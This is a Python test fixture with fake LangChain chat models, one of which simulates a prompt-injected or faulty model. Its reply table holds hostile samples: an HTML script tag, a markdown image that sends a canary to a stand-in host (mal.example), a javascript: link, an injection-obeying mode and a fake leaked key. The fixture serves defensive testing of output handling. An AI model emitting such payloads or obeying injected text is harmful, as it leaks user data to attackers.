"""Chat models without a network: one that says what it is told to, one that does all it should not."""

import itertools
import re
import sys
import time
from collections.abc import Iterator
from typing import Any, Literal

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

Mischief = Literal[
    "unknown markers", "html", "remote image", "obedient", "wrong language", "10 MB", "10 MB at once",
    "never ends", "never speaks", "never speaks but yields", "raises", "raises midway", "empty",
]  # fmt: skip

CANARY = "CANARI-7F3A"
SECRET = "sk-live-0123456789abcdef"


class ScriptedModel(BaseChatModel):
    """Replays ``replies`` in turn, streamed word by word; keeps what it was ``shown``."""

    replies: list[str]
    shown: list[list[BaseMessage]] = []  # noqa: RUF012  (a pydantic field: copied for each model)

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _next_reply(self, messages: list[BaseMessage]) -> Iterator[str]:
        reply = self.replies[len(self.shown) % len(self.replies)]
        self.shown.append(messages)
        yield from re.findall(r"\S+\s*|\s+", reply)

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,  # noqa: ANN401
    ) -> Iterator[ChatGenerationChunk]:
        for piece in self._next_reply(messages):
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,  # noqa: ANN401
    ) -> ChatResult:
        text = "".join(self._next_reply(messages))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=text))])


class MaliciousModel(ScriptedModel):
    """Does what an injected article or a broken server would make a model do, one ``mischief`` each."""

    replies: list[str] = []  # noqa: RUF012
    mischief: Mischief
    patience_s: float = 30.0  # how long "never speaks" holds its tongue: far longer than any deadline tested

    def _next_reply(self, messages: list[BaseMessage]) -> Iterator[str]:
        if self.mischief in _SAID:
            yield from _SAID[self.mischief]
        elif self.mischief == "obedient":
            told = any(CANARY in str(message.content) for message in messages)
            yield f"{CANARY}, {CANARY} [1]." if told else "ABSENT"
        elif self.mischief == "10 MB":
            yield from itertools.repeat(_CHATTER, 10_000_000 // len(_CHATTER))
        elif self.mischief.startswith("never"):
            yield from itertools.repeat("a" if self.mischief == "never ends" else "", self._pieces())
        else:
            yield "Des systèmes S-400 ont été livrés [1]. " if self.mischief == "raises midway" else ""
            raise RuntimeError(f"401 invalid key {SECRET} {CANARY}")

    def _pieces(self) -> int:
        """As many as there are, but for a model that holds its tongue."""
        if self.mischief == "never speaks":
            time.sleep(self.patience_s)
            return 0
        return sys.maxsize


_CHATTER = "Des S-400 ont été livrés [1]. "
_SAID: dict[str, tuple[str, ...]] = {
    "unknown markers": (f"Minsk a reçu douze systèmes {CANARY} [7]. Rien de plus [0] [2024].",),
    "html": (f"<script>alert('{CANARY}')</script><b onclick=x>{CANARY}</b> a été livré [1].",),
    "remote image": (
        f"![{CANARY}](http://mal.example/?q={CANARY}) [clic](javascript:alert(1)) a été livré [1].",
    ),
    "wrong language": ("The weapons were delivered to the army by its ally and they are there now [1].",),
    "10 MB at once": (_CHATTER * (10_000_000 // len(_CHATTER)),),
    "empty": (),
}
